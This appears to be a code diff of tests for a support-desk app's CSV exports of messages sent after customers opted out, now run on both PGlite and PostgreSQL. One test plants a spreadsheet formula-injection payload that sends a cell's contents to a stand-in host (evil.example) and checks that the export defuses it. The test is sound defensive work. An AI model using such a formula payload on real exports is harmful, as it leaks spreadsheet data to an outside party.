@@ -15,10 +15,13 @@ import { openRooms, roomsConfigIssues, type Rooms } from '../rooms.ts'
 import { start, type Running } from '../server.ts'
 import { DEMO_CREDENTIALS, END_MS, makeAccount, messageAt, type NumberProfile } from '../simulator/dataset.ts'
 import { DESK_INDEX, DESK_PARTIES, deskCases } from '../simulator/desk-cases.ts'
+import { startCluster, type Cluster } from '../../scripts/pg-cluster.mjs'
 import { forgetDesk, refreshAllDesk, refreshDesk } from './refresh.ts'
+import { DESK_EXPORT } from './routes.ts'
 
 /**
- * The desk over HTTP, after a real sync of demo numbers from the embedded simulator into PGlite:
+ * The desk over HTTP, after a real sync of demo numbers from the embedded simulator into PGlite
+ * and into a real PostgreSQL server:
  * what the routes answer must equal what contract/desk's pure rules compute over the same
  * messages, and the simulator's scripted cases (desk-cases.ts) must show up as scripted.
  */
@@ -48,8 +51,37 @@ function truth(p: NumberProfile): Msg[] {
   return out
 }
 
-describe('the support desk after a sync', () => {
+/** RFC 4180 as contract/csv writes it: quoted cells may hold commas, quotes and line breaks. */
+function parseCsv(text: string): string[][] {
+  const rows: string[][] = []
+  let row: string[] = []
+  let cell = ''
+  let quoted = false
+  for (let i = text.startsWith('\uFEFF') ? 1 : 0; i < text.length; i++) {
+    const c = text[i]!
+    if (quoted) {
+      if (c !== '"') cell += c
+      else if (text[i + 1] === '"') cell += text[i++]
+      else quoted = false
+    } else if (c === '"') quoted = true
+    else if (c === ',') {
+      row.push(cell)
+      cell = ''
+    } else if (c === '\r' && text[i + 1] === '\n') {
+      row.push(cell)
+      rows.push(row)
+      row = []
+      cell = ''
+      i++
+    } else cell += c
+  }
+  if (cell || row.length) rows.push([...row, cell])
+  return rows
+}
+
+describe.each(['pglite', 'postgres'] as const)('the support desk after a sync on %s', (engine) => {
   let dir: string
+  let cluster: Cluster | null = null
   let running: Running
   let rooms: Rooms
   let all: Msg[]
@@ -62,14 +94,15 @@ describe('the support desk after a sync', () => {
 
   beforeAll(async () => {
     dir = mkdtempSync(join(tmpdir(), 'sb-desk-'))
+    if (engine === 'postgres') cluster = await startCluster()
     const env = {
       PORT: '0',
       HOST: '127.0.0.1',
       LOG_REQUESTS: '0',
       ACCESS: 'local',
-      DATA_DIR: join(dir, 'data'),
       SYNC_RATE: '0',
       INDEX_AUTO_SYNC: 'off',
+      ...(cluster ? { DATABASE_URL: cluster.url } : { DATA_DIR: join(dir, 'data') }),
     }
     const config = parseConfig(env)
     const roomsCfg = roomsConfigIssues(env, config)
@@ -94,9 +127,11 @@ describe('the support desk after a sync', () => {
   }, 180_000)
 
   afterAll(async () => {
+    DESK_EXPORT.batch = 1000
     await running?.close()
+    cluster?.stop()
     rmSync(dir, { recursive: true, force: true })
-  })
+  }, 60_000)
 
   it('queues exactly who needsReplyQueue says is waiting, longest first', async () => {
     for (const minutes of [15, 0, 180]) {
@@ -311,6 +346,141 @@ describe('the support desk after a sync', () => {
     expect(lines.length).toBeGreaterThan(0)
     const log = await rooms.db.query<{ n: number }>(`SELECT count(*)::int AS n FROM access_log WHERE action = 'desk.needs-reply.export'`)
     expect(log.rows[0]!.n).toBe(1)
+  })
+
+  it('exports every send after opt-out with both messages, and the whole ledger, in batches, guarded, and logged', async () => {
+    const ledger = optOutLedger(all)
+    const sent = ledger.flatMap((e) => e.sentAfter.map((s) => ({ e, s })))
+    expect(sent.length).toBeGreaterThan(3)
+    // The page's read without a limit: every page of it, in its order.
+    const pageRead = async (q: string) => {
+      const rows: Array<Record<string, unknown>> = []
+      for (let page = 0; ; page++) {
+        const body = await get(`/api/desk/sent-after-opt-out?limit=500&offset=${page * 500}${q}`)
+        rows.push(...body.rows)
+        if (body.rows.length < 500) return rows
+      }
+    }
+    const csv = async (path: string) => {
+      const r = await call(port(), 'GET', path)
+      expect(r.status, r.text).toBe(200)
+      expect(r.headers['content-type']).toBe('text/csv; charset=utf-8')
+      const rows = parseCsv(r.text)
+      expect(Number(r.headers['x-row-count'])).toBe(rows.length - 1)
+      return { name: String(r.headers['content-disposition']), header: rows[0]!, rows: rows.slice(1) }
+    }
+    // A promotion whose text a spreadsheet would run as a formula.
+    const promo = (await get(`/api/desk/sent-after-opt-out?number=${DESK.number}&party=${DESK_PARTIES.stopThenPromo}`)).rows[0]!
+    const ordinal = (promo.message as { ordinal: number }).ordinal
+    const formula = '=HYPERLINK("https://evil.example/?x="&A1,"Weekend sale")'
+    const old = await rooms.db.query<{ body: string | null; body_id: number | null }>(
+      'SELECT body, body_id FROM index_messages WHERE number = $1 AND ordinal = $2',
+      [DESK.number, ordinal],
+    )
+    await rooms.db.query('UPDATE index_messages SET body = $3, body_id = NULL WHERE number = $1 AND ordinal = $2', [
+      DESK.number,
+      ordinal,
+      formula,
+    ])
+    // Batches of 3 rows, so every export below crosses several keyset boundaries.
+    DESK_EXPORT.batch = 3
+    try {
+      const all_ = await csv('/api/desk/sent-after-opt-out/export')
+      expect(all_.name).toMatch(/^attachment; filename="switchboard-sent-after-opt-out-all-numbers-\d{4}-\d{2}-\d{2}\.csv"$/)
+      expect(all_.header).toEqual([
+        'number',
+        'customer',
+        'opt_out_at',
+        'opt_out_text',
+        'sent_at',
+        'sent_text',
+        'status',
+        'failed',
+        'minutes_after_opt_out',
+        'opt_out_ordinal',
+        'sent_ordinal',
+      ])
+      expect(all_.rows).toHaveLength(sent.length)
+      const key = (n: unknown, o: unknown) => `${partyKey(String(n))}#${String(o)}`
+      expect(all_.rows.map((r) => key(r[0], r[10])).sort()).toEqual(
+        sent.map(({ e, s }) => key(e.number, (s.message as Msg).ordinal)).sort(),
+      )
+      // In the page's order, with both messages as the page shows them.
+      const read = await pageRead('')
+      expect(all_.rows.map((r) => [r[0], r[1], r[2], r[3], r[4], r[5], r[9], r[10]])).toEqual(
+        read.map((x) => {
+          const m = x.message as { ordinal: number; date: string; body: string }
+          const o = x.optOut as { ordinal: number; date: string; body: string }
+          return [
+            x.number,
+            x.party,
+            o.date,
+            o.body,
+            m.date,
+            m.body === formula ? `'${formula}` : m.body,
+            String(o.ordinal),
+            String(m.ordinal),
+          ]
+        }),
+      )
+      expect(all_.rows.filter((r) => r[5] === `'${formula}`)).toHaveLength(1)
+      expect(all_.rows.some((r) => r[5] === formula)).toBe(false)
+
+      // The page's filters: one number, one customer typed in another format.
+      const p = DESK_PARTIES.stopThenPromo
+      const one = await csv(
+        `/api/desk/sent-after-opt-out/export?number=${DESK.number}&party=${encodeURIComponent(`(${p.slice(1, 4)}) ${p.slice(4, 7)}-${p.slice(7)}`)}`,
+      )
+      expect(one.rows.map((r) => [r[1], r[3], r[5]])).toEqual([[p, 'STOP', `'${formula}`]])
+      const desk = await csv(`/api/desk/sent-after-opt-out/export?number=${DESK.number}`)
+      expect(desk.rows).toHaveLength(sent.filter(({ e }) => partyKey(e.number) === DESK.number).length)
+
+      // The ledger: every customer with an opt-out history, per state.
+      for (const [state, expected] of [
+        ['', ledger],
+        ['opted-out', ledger.filter((e) => e.optedOut)],
+        ['opted-in', ledger.filter((e) => !e.optedOut)],
+      ] as const) {
+        const out = await csv(`/api/desk/opt-outs/export${state ? `?state=${state}` : ''}`)
+        expect(out.header).toEqual(['number', 'customer', 'state', 'opted_out_since', 'sent_after_opt_out', 'history'])
+        expect(out.rows.map((r) => `${r[0]}|${r[1]}`).sort()).toEqual(expected.map((e) => `${partyKey(e.number)}|${e.party}`).sort())
+        if (state) expect(new Set(out.rows.map((r) => r[2]))).toEqual(new Set([state]))
+        expect(out.rows.reduce((a, r) => a + Number(r[4]), 0)).toBe(expected.reduce((a, e) => a + e.sentAfter.length, 0))
+      }
+      const deskLedger = await csv(`/api/desk/opt-outs/export?number=${DESK.number}`)
+      expect(deskLedger.name).toMatch(
+        new RegExp(`^attachment; filename="switchboard-opt-outs-${DESK.number}-all-\\d{4}-\\d{2}-\\d{2}\\.csv"$`),
+      )
+      const stopStart = deskLedger.rows.find((r) => r[1] === DESK_PARTIES.stopStart)!
+      expect(stopStart[2]).toBe('opted-in')
+      expect(stopStart[5]!.split('; ')).toHaveLength(2)
+    } finally {
+      DESK_EXPORT.batch = 1000
+      await rooms.db.query('UPDATE index_messages SET body = $3, body_id = $4 WHERE number = $1 AND ordinal = $2', [
+        DESK.number,
+        ordinal,
+        old.rows[0]!.body,
+        old.rows[0]!.body_id,
+      ])
+    }
+    for (const [action, n] of [
+      ['desk.sent-after-opt-out.export', 3],
+      ['desk.opt-outs.export', 4],
+    ] as const) {
+      const log = await rooms.db.query<{ n: number }>(`SELECT count(*)::int AS n FROM access_log WHERE action = $1`, [action])
+      expect(log.rows[0]!.n, action).toBe(n)
+    }
+    for (const [path, field] of [
+      ['/api/desk/sent-after-opt-out/export?party=abc', 'party'],
+      ['/api/desk/sent-after-opt-out/export?number=12', 'number'],
+      ['/api/desk/sent-after-opt-out/export?limit=5', 'limit'],
+      ['/api/desk/opt-outs/export?state=maybe', 'state'],
+      ['/api/desk/opt-outs/export?offset=1', 'offset'],
+    ] as const) {
+      const r = await call(port(), 'GET', path)
+      expect(r.status, `${path}: ${r.text}`).toBe(400)
+      expect(r.json().error).toMatchObject({ kind: 'invalid_request', field })
+    }
   })
 
   it('shows nothing of a forgotten number, and forgetDesk deletes its rows', async () => {
